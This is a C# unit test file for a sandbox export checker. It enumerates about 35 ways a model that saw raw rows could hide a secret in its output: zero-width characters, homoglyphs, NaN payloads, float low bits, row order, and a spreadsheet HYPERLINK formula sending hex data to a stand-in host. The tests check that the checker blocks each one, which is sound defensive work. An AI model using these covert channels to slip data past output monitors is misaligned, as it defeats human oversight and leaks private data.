using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using Sandbox.Export.Artefacts;
using Sandbox.Export.Checks;
using Sandbox.Export.Packaging;
using Sandbox.Policy;
using Sandbox.Trust;

namespace Sandbox.Export.Tests.Checks;

/// <summary>
/// A model that saw raw rows and writes them into its output, in many ways. What leaves is compared with what leaves without any output: it must be the same bytes or nothing, whatever the model wrote, and
/// the author must not hear more than <see cref="OutputCapacity"/> states.
/// </summary>
public sealed class SmugglingTests
{
    private const string Secret = "11010519491231002X 王芳 23,450.75";
    private static readonly byte[] Bytes = Encoding.UTF8.GetBytes(Secret);
    private static readonly IReadOnlyList<Cell>[] Honest = [.. ExportChecker.Check(Sample.Case()).Tables[0].Rows];

    /// <summary>Every way with the rows that carry the secret so.</summary>
    public static TheoryData<string> Ways()
    {
        var ways = new TheoryData<string>();
        foreach (var way in Encodings.Keys)
        {
            ways.Add(way);
        }

        return ways;
    }

    private static readonly Dictionary<string, Func<IReadOnlyList<IReadOnlyList<Cell>>>> Encodings = new(StringComparer.Ordinal)
    {
        ["plain text as a category"] = () => Categories(at => at == 0 ? Secret : Name(at)),
        ["reversed"] = () => Categories(at => at == 0 ? new string([.. Secret.Reverse()]) : Name(at)),
        ["sorted letters"] = () => Categories(at => at == 0 ? new string([.. Secret.Order()]).Trim() : Name(at)),
        ["hexadecimal"] = () => Categories(at => at == 0 ? Convert.ToHexString(Bytes) : Name(at)),
        ["base64"] = () => Categories(at => at == 0 ? Convert.ToBase64String(Bytes) : Name(at)),
        ["hash"] = () => Categories(at => at == 0 ? Convert.ToHexStringLower(SHA256.HashData(Bytes)) : Name(at)),
        ["zero-width marks after a category"] = () => Categories(at => Name(at) + string.Concat(Bytes.Select(value => (value & 1) == 0 ? '\u200b' : '\u200c'))),
        ["blanks after a category"] = () => Categories(at => Name(at) + new string(' ', Bytes[at])),
        ["look-alike letters"] = () => Categories(at => Name(at).Replace('A', 'А')),
        ["upper and lower case"] = () => Categories(at => (Bytes[at] & 1) == 0 ? Name(at).ToLowerInvariant() : Name(at)),
        ["names of categories"] = () => Categories(at => Secret[(at * 4)..((at * 4) + 4)].Trim()),
        ["lengths of categories"] = () => Categories(at => new string('a', Bytes[at])),
        ["combining marks"] = () => Categories(at => Name(at) + "\u0301"),
        ["row order"] = () => [.. Enumerable.Reverse(Honest)],
        ["row order by a key"] = () => [Honest[1], Honest[2], Honest[0]],
        ["number of rows"] = () => [.. Honest, .. Enumerable.Range(0, Bytes[0]).Select(at => Row($"Z{at}", 100, 1))],
        ["repeated rows"] = () => [.. Honest, Honest[0], Honest[0]],
        ["left out rows"] = () => Honest[1..],
        ["counts"] = () => Figures((at, row) => row with { Count = Bytes[at] }),
        ["whole numbers that pack bytes"] = () => Figures((at, row) => row with { Count = BitConverter.ToInt64(Bytes, at * 8) & long.MaxValue }),
        ["low bits of a mean"] = () => Figures((at, row) => row with { Mean = BitConverter.Int64BitsToDouble((BitConverter.DoubleToInt64Bits(row.Mean) & ~0xffL) | Bytes[at]) }),
        ["digits far behind the point"] = () => Figures((at, row) => row with { Mean = row.Mean + (Bytes[at] * 1e-9) }),
        ["NaN payloads"] = () => Figures((at, row) => row with { Mean = BitConverter.Int64BitsToDouble(0x7ff8000000000000L | Bytes[at]) }),
        ["minus zero"] = () => Figures((at, row) => row with { Mean = (Bytes[at] & 1) == 0 ? -0.0 : 0.0 }),
        ["infinities"] = () => Figures((at, row) => row with { Mean = (Bytes[at] & 1) == 0 ? double.PositiveInfinity : double.NegativeInfinity }),
        ["missing values"] = () => [.. Honest.Select((row, at) => (IReadOnlyList<Cell>)[row[0], row[1], (Bytes[at] & 1) == 0 ? Cell.Missing.Value : row[2]])],
        ["withheld marks"] = () => [.. Honest.Select((row, at) => (IReadOnlyList<Cell>)[row[0], row[1], (Bytes[at] & 1) == 0 ? Cell.Withheld.Value : row[2]])],
        ["margins"] = () => [.. Honest, [Cell.Total.Value, new Cell.Whole(Bytes[0]), new Cell.Real(Bytes[1])]],
        ["trailing zeros of decimals"] = () => [.. Honest.Select((row, at) => (IReadOnlyList<Cell>)[row[0], row[1], new Cell.Exact(new decimal(1000, 0, 0, false, (byte)(Bytes[at] % 20)))])],
        ["another type"] = () => [.. Honest.Select((row, at) => (IReadOnlyList<Cell>)[row[0], row[1], new Cell.Day(new DateOnly(1900 + (Bytes[at] % 100), 1, 1))])],
        ["more columns"] = () => [.. Honest.Select(row => (IReadOnlyList<Cell>)[.. row, new Cell.Text(Secret)])],
        ["no row"] = () => [],
        ["a formula"] = () => Categories(at => at == 0 ? "=HYPERLINK(\"http://x/" + Convert.ToHexString(Bytes)[..20] + "\")" : Name(at)),
        ["times to the second"] = () => Figures((at, row) => row with { Count = 1_700_000_000 + Bytes[at] }),
        ["a private alphabet"] = () => Categories(at => string.Concat(Bytes.Skip(at * 8).Take(8).Select(value => (char)('甲' + value)))),
    };

    [Theory]
    [MemberData(nameof(Ways))]
    public void Nothing_that_a_model_writes_leaves(string way)
    {
        var honest = Sample.Case();
        var clean = ReleaseContent.Render(Suite.Nist, honest, ExportChecker.Check(honest)).Files;
        var export = Sample.Case(Sample.Table() with { Submitted = Encodings[way]() });
        var report = ExportChecker.Check(export);
        if (report.Verdict == Verdict.Fail)
        {
            Assert.Empty(report.Tables);
            return;
        }

        // Same files, same bytes, same digest to vote on: the model chose nothing.
        var left = ReleaseContent.Render(Suite.Nist, export, report).Files;
        Assert.Equal(clean.Select(file => file.Path), left.Select(file => file.Path));
        Assert.All(clean.Zip(left), pair => Assert.True(pair.First.Content.Span.SequenceEqual(pair.Second.Content.Span)));
    }

    [Fact]
    public void The_author_hears_no_more_than_the_stated_bits()
    {
        var answers = Encodings.Values.Select(rows => ExportChecker.Check(Sample.Case(Sample.Table() with { Submitted = rows() })))
            .Select(report => $"{report.Verdict} {string.Join('|', report.ForAuthor().Select(finding => $"{finding.Table} {finding.Verdict} {finding.Words.Rule} {finding.Words.Why}"))}")
            .ToHashSet(StringComparer.Ordinal);
        Assert.True(Encodings.Count >= 20);

        // One more answer, that there is no such output, is given by the host.
        Assert.InRange(answers.Count + 1, 2, 1 << OutputCapacity.BitsOfAnswer);
        Assert.Equal(20, OutputCapacity.BitsOfOutput);
    }

    [Fact]
    public void Raw_rows_that_the_vault_finds_fail_whatever_the_figures_say()
    {
        var report = ExportChecker.Check(Sample.Case(Sample.Table() with { Submitted = Honest, RawRowMatches = 1 }));
        Assert.Equal(Verdict.Fail, report.Verdict);
        Assert.Equal("CC-27-1", Assert.Single(report.ForAuthor()).Words.Rule);
    }

    private static string Name(int at) => ((Cell.Text)Honest[at][0]).Value;

    private static IReadOnlyList<Cell> Row(string name, long count, double mean) => [new Cell.Text(name), new Cell.Whole(count), new Cell.Real(mean)];

    private static IReadOnlyList<Cell>[] Categories(Func<int, string> name) => [.. Honest.Select((row, at) => (IReadOnlyList<Cell>)[new Cell.Text(name(at)), row[1], row[2]])];

    private static IReadOnlyList<Cell>[] Figures(Func<int, Figure, Figure> change) => [.. Honest.Select((row, at) =>
    {
        var figure = change(at, new Figure(((Cell.Whole)row[1]).Value, ((Cell.Real)row[2]).Value));
        return Row(Name(at), figure.Count, figure.Mean);
    })];

    private sealed record Figure(long Count, double Mean)
    {
        public override string ToString() => string.Create(CultureInfo.InvariantCulture, $"{Count} {Mean}");
    }
}
